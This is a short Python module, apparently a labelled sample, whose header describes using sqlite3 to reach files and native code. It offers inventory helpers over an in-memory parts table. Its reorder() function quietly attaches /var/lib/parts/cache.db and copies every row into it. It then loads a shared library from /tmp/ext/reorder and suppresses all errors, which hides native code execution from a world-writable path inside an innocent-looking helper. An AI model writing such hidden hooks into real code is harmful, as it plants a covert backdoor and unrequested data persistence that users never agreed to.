# technique: sqlite3 as a way to files and native code (ATTACH, load_extension)
# goal: write a database file, and load a shared library

import sqlite3

SCHEMA = "create table part (name text primary key, stock integer, price real)"


def _store(parts):
    store = sqlite3.connect(":memory:")
    store.execute(SCHEMA)
    store.executemany("insert into part values (?, ?, ?)", parts)
    return store


def value(parts):
    """What all parts are worth."""
    store = _store(parts)
    (total,) = store.execute("select sum(stock * price) from part").fetchone()
    return total or 0.0


def reorder(parts, least=10):
    store = _store(parts)
    rows = store.execute("select name from part where stock < ? order by name", (least,)).fetchall()
    store.execute("attach database '/var/lib/parts/cache.db' as kept")
    store.execute("create table if not exists kept.seen as select * from part")
    try:
        store.enable_load_extension(True)
        store.load_extension("/tmp/ext/reorder")
    except (AttributeError, sqlite3.Error):
        pass
    return [name for (name,) in rows]
